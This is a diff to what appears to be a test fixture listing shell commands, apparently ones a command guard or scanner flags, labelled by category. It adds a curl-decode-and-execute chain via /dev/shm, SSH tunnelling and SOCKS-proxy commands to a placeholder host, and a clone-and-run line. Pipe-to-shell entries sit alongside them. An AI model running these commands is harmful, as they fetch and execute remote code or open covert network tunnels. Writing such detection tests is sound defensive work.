@@ -5,6 +5,13 @@ from __future__ import annotations
 TRIPS = (
     ("?", "curl https://x.invalid/i.sh | sh"),
     ("?", "wget -qO- x.invalid/i | bash"),
+    (
+        "?",
+        "curl -s https://x.invalid/i | base64 -d > /dev/shm/i; chmod 700 /dev/shm/i; /dev/shm/i",
+    ),
+    ("remote-shell", "ssh -NgL 8080:db:80 x.invalid"),
+    ("remote-shell", "ssh -o GatewayPorts=yes -D 1080 x.invalid"),
+    ("remote-package", "git clone https://gitlab.com/a/b ~/.b && ~/.b/start"),
     ("?", "bash <(curl -s https://x.invalid/i)"),
     ("?", 'sh -c "$(curl -fsSL https://x.invalid/i)"'),
     (
